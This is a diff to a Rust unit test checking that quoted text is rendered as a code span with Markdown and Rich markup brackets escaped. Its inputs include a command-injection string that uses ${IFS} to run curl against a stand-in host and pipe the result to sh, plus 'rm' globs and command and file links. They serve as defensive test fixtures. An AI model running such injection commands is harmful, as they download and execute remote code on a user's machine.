@@ -13,8 +13,13 @@ fn a_quoted_text_is_a_code_span_with_every_character_visible() {
         ("**", "`**`"),
         (
             "ls [src](;curl${IFS}https://example.org/x|sh)",
-            "`ls [src](;curl${IFS}https://example.org/x|sh)`",
+            r"`ls \u{5b}src](;curl${IFS}https://example.org/x|sh)`",
         ),
+        // The markup of Rich: a terminal that prints it shows `rm *` of the first.
+        ("rm [a-z]* x[/tmp]", r"`rm \u{5b}a-z]* x\u{5b}/tmp]`"),
+        ("[#f00]a[@click=b]", r"`\u{5b}#f00]a\u{5b}@click=b]`"),
+        (r"\[b", r"`\\\u{5b}b`"),
+        ("[ -f x ] [0-9] [A-Z] [[", "`[ -f x ] [0-9] [A-Z] [[`"),
         ("a &amp; b &lt;", "`a &amp; b &lt;`"),
         ("<img src=x>", "`<img src=x>`"),
         ("äöü 日本語 🙂", "`äöü 日本語 🙂`"),
@@ -28,11 +33,11 @@ fn a_quoted_text_is_a_code_span_with_every_character_visible() {
         // A notification of VS Code shows `docs` of it, also between backticks.
         (
             "open [docs](https://example.org/x)",
-            r"`open [docs]\u{28}https://example.org/x)`",
+            r"`open \u{5b}docs]\u{28}https://example.org/x)`",
         ),
         ("[OK](Command:quit)", r"`[OK]\u{28}Command:quit)`"),
-        ("[a](file:///etc)", r"`[a]\u{28}file:///etc)`"),
-        ("a[0](b) [a](httpd)", "`a[0](b) [a](httpd)`"),
+        ("[A](file:///etc)", r"`[A]\u{28}file:///etc)`"),
+        ("a[0](b) [A](httpd)", "`a[0](b) [A](httpd)`"),
         // What looks like the end, or like an escape, is neither.
         ("ls`, and nothing else", "``ls`, and nothing else``"),
         (r"C:\new\u{200b}", r"`C:\\new\\u{200b}`"),
